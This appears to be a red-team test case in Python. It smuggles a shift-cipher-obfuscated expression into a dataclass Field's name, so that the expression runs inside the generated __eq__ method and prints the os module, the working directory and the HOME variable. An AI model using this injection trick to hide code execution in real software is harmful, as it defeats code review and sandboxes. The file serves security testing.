# family: red team, round 65b (setattr(obj, key) with key also from asdict() keys renames a Field; subclass dataclass pastes it into __eq__)
import dataclasses


@dataclasses.dataclass
class Tag:
    name: str = "n"


@dataclasses.dataclass
class Base:
    x: int = 0


def put(obj, value):
    for key in ("label",):
        pass
    for key in dataclasses.asdict(Tag()):
        pass
    setattr(obj, key, value)


def spell(text):
    return "".join([chr(ord(c) - 1) for c in text])


# "x if print(__import__('os'), __import__('os').getcwd(), __import__('os').environ['HOME']) else 0", shifted by one
payload = spell("y!jg!qsjou)``jnqpsu``)(pt(*-!``jnqpsu``)(pt(*/hfudxe)*-!``jnqpsu``)(pt(*/fowjspo\\(IPNF(^*!fmtf!1")
for f in dataclasses.fields(Base):
    put(f, payload)


@dataclasses.dataclass(init=False, repr=False)
class Child(Base):
    pass


print(Child() == Child())
